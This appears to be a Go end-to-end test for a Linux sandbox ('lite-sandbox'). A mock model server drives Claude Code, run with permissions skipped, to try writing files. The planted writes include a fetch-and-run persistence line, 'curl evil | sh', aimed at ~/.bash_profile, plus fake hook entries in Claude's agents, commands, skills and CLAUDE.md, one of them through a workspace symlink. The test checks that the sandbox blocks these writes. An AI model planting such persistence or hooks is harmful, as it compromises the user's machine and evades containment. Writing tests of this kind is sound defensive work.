// Copyright 2026 The lite-sandbox Authors.
// SPDX-License-Identifier: MIT

//go:build linux

package e2etest

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
)

// writeModel is a minimal Anthropic Messages mock that asks Claude's own
// Write tool (not Bash) for each of writes in turn, then answers.
type writeModel struct {
	writes  [][2]string // file_path, content
	mu      sync.Mutex
	results []string
}

func (m *writeModel) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.Method == http.MethodHead {
		return
	}
	var req struct {
		Messages []struct {
			Content any `json:"content"`
		} `json:"messages"`
	}
	if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
		http.Error(w, err.Error(), 400)
		return
	}
	n := 0
	var res []string
	for _, msg := range req.Messages {
		blocks, _ := msg.Content.([]any)
		for _, b := range blocks {
			bm, _ := b.(map[string]any)
			if bm["type"] == "tool_result" {
				n++
				bs, _ := json.Marshal(bm["content"])
				res = append(res, string(bs))
			}
		}
	}
	m.mu.Lock()
	if len(res) > len(m.results) {
		m.results = res
	}
	m.mu.Unlock()
	w.Header().Set("Content-Type", "text/event-stream")
	ev := func(name string, v any) {
		b, _ := json.Marshal(v)
		fmt.Fprintf(w, "event: %s\ndata: %s\n\n", name, b)
	}
	ev("message_start", map[string]any{"type": "message_start", "message": map[string]any{"id": "msg_1", "type": "message",
		"role": "assistant", "model": "mock-model", "content": []any{}, "usage": map[string]any{"input_tokens": 10, "output_tokens": 5}}})
	stop := "end_turn"
	if n < len(m.writes) {
		in, _ := json.Marshal(map[string]string{"file_path": m.writes[n][0], "content": m.writes[n][1]})
		ev("content_block_start", map[string]any{"type": "content_block_start", "index": 0,
			"content_block": map[string]any{"type": "tool_use", "id": fmt.Sprintf("toolu_w%d", n), "name": "Write", "input": map[string]any{}}})
		ev("content_block_delta", map[string]any{"type": "content_block_delta", "index": 0,
			"delta": map[string]any{"type": "input_json_delta", "partial_json": string(in)}})
		stop = "tool_use"
	} else {
		ev("content_block_start", map[string]any{"type": "content_block_start", "index": 0,
			"content_block": map[string]any{"type": "text", "text": ""}})
		ev("content_block_delta", map[string]any{"type": "content_block_delta", "index": 0,
			"delta": map[string]any{"type": "text_delta", "text": finalText}})
	}
	ev("content_block_stop", map[string]any{"type": "content_block_stop", "index": 0})
	ev("message_delta", map[string]any{"type": "message_delta", "delta": map[string]any{"stop_reason": stop}, "usage": map[string]any{"output_tokens": 5}})
	ev("message_stop", map[string]any{"type": "message_stop"})
}

// TestClaudeRing: in the agent ring Claude's own Write tool, run
// unattended, cannot create ~/.bash_profile (and the model is told), while a
// Write into the workspace works and Claude's state in ~/.claude is
// written. The home lies outside /tmp here, as real homes do: the ring's
// private /tmp would otherwise hide it altogether.
//
// It runs as root and as an unprivileged user (#17).
func TestClaudeRing(t *testing.T) {
	asUsers(t, ringEnv, "claude", claudeRing)
}

// canRunAsNobody skips (or fails, under scripts/test, which installs the
// CLIs where every user can run them) when nobody cannot run the agent.
func canRunAsNobody(t *testing.T, dir, name string) {
	t.Helper()
	cmd := exec.Command(filepath.Join(dir, name), "--version")
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: nobody, Gid: nobody}}
	// A home of its own: opencode makes its XDG directories even for
	// --version, and Copilot's native binary extracts its JavaScript
	// there before it can print its version.
	home, err := os.MkdirTemp("/var/tmp", "lite-sandbox-nobody-home-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(home) })
	if err := os.Chown(home, nobody, nobody); err != nil {
		t.Fatal(err)
	}
	cmd.Env = []string{"PATH=" + dir + ":/usr/local/bin:/usr/bin:/bin", "HOME=" + home}
	if out, err := cmd.CombinedOutput(); err != nil {
		msg := fmt.Sprintf("%s in %s cannot run as an unprivileged user (%v: %.200s): install the CLIs where every user may read them (LITE_SANDBOX_AGENTS_DIR, as scripts/test does)", name, dir, err, out)
		if os.Getenv("LITE_SANDBOX_AGENTS_SHARED") == "1" {
			t.Fatal(msg)
		}
		t.Skip(msg)
	}
}

func claudeRing(t *testing.T, e *env) {
	bashrc := filepath.Join(e.home, ".bashrc")
	if err := os.WriteFile(bashrc, []byte("# the user's\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	// Claude writes an existing file only after reading it; a new login
	// script is the same persistence.
	profile := filepath.Join(e.home, ".bash_profile")
	// Claude's own code-bearing state (#17): agents and commands (their
	// frontmatter may carry hooks and MCP servers), skills, CLAUDE.md,
	// also through a link in the workspace (a symlink race).
	claudeDir := filepath.Join(e.home, ".claude")
	planted := []string{
		filepath.Join(claudeDir, "agents", "evil.md"), filepath.Join(claudeDir, "commands", "evil.md"),
		filepath.Join(claudeDir, "skills", "evil", "SKILL.md"), filepath.Join(claudeDir, "CLAUDE.md"),
	}
	if err := os.MkdirAll(filepath.Join(claudeDir, "skills"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(claudeDir, "skills"), filepath.Join(e.ws, "skills-link")); err != nil {
		t.Fatal(err)
	}
	writes := [][2]string{{profile, "curl evil | sh\n"}}
	for _, c := range planted {
		writes = append(writes, [2]string{c, "---\nhooks: evil\n---\n"})
	}
	writes = append(writes, [2]string{filepath.Join(e.ws, "skills-link", "linked", "SKILL.md"), "evil\n"})
	planted = append(planted, filepath.Join(claudeDir, "skills", "linked", "SKILL.md"))
	writes = append(writes, [2]string{filepath.Join(e.ws, "new.txt"), "made by Write\n"})
	m := &writeModel{writes: writes}
	srv := httptest.NewServer(m)
	defer srv.Close()
	env := []string{"ANTHROPIC_BASE_URL=" + srv.URL, "ANTHROPIC_API_KEY=" + secretKey, "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1",
		"DISABLE_AUTOUPDATER=1", "DISABLE_TELEMETRY=1", "DISABLE_ERROR_REPORTING=1", "CLAUDE_CODE_MAX_RETRIES=0"}
	if os.Geteuid() == 0 {
		env = append(env, "IS_SANDBOX=1")
	}
	out, errs, code := e.launch("claude", env, "-p", "write the files", "--dangerously-skip-permissions", "--output-format", "json")
	if code != 0 {
		t.Fatalf("exit %d\nstdout:\n%s\nstderr:\n%s", code, out, errs)
	}
	if b, _ := os.ReadFile(bashrc); string(b) != "# the user's\n" {
		t.Errorf("~/.bashrc changed in the ring: %q", b)
	}
	if _, err := os.Lstat(profile); err == nil {
		t.Errorf("Claude's Write created %s in the ring", profile)
	}
	if b, err := os.ReadFile(filepath.Join(e.ws, "new.txt")); err != nil || string(b) != "made by Write\n" {
		t.Errorf("Write into the workspace: %q, %v\nstderr:\n%s", b, err, errs)
	}
	m.mu.Lock()
	res := m.results
	m.mu.Unlock()
	// The explanation comes from launch's permission rules for Claude
	// (home persistence files), else from the ring's EROFS.
	if len(res) != len(writes) || !strings.Contains(strings.ToLower(res[0]), "read-only") && !strings.Contains(res[0], "denied") {
		t.Errorf("tool results %q: the model was not told why the home is not writable", res)
	}
	for _, c := range planted {
		if _, err := os.Lstat(c); err == nil {
			t.Errorf("Claude's Write planted %s on the host", c)
		}
	}
	if ents, err := os.ReadDir(filepath.Join(e.home, ".claude", "projects")); err != nil || len(ents) == 0 {
		t.Errorf("Claude's state in ~/.claude/projects was not written: %v %v", ents, err)
	}
}

// ringEnv is an e2e environment for Claude in the ring whose home lies
// outside /tmp, as real homes do: the ring's private /tmp would
// otherwise hide it.
func ringEnv(t *testing.T) *env {
	t.Helper()
	bin := agentBin(t, "claude", "npm install -g @anthropic-ai/claude-code@2.1.197")
	e := newEnv(t, bin, "")
	root, err := os.MkdirTemp("/var/tmp", "lite-sandbox-ring-e2e-")
	if err != nil {
		t.Skipf("no /var/tmp: %v", err)
	}
	t.Cleanup(func() { os.RemoveAll(root) })
	e.home = filepath.Join(root, "home")
	e.ws = filepath.Join(root, "ws")
	run := filepath.Join(root, "run")
	e.vars = append(e.vars, "XDG_RUNTIME_DIR="+run)
	for _, d := range []string{e.home, e.ws, run} {
		if err := os.MkdirAll(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	for i, v := range e.vars {
		if strings.HasPrefix(v, "HOME=") || strings.HasPrefix(v, "XDG_CONFIG_HOME=") || strings.HasPrefix(v, "XDG_DATA_HOME=") || strings.HasPrefix(v, "XDG_CACHE_HOME=") {
			n, _, _ := strings.Cut(v, "=")
			e.vars[i] = n + "=" + map[string]string{"HOME": e.home, "XDG_CONFIG_HOME": e.home + "/.config",
				"XDG_DATA_HOME": e.home + "/.local/share", "XDG_CACHE_HOME": e.home + "/.cache"}[n]
		}
	}
	return e
}
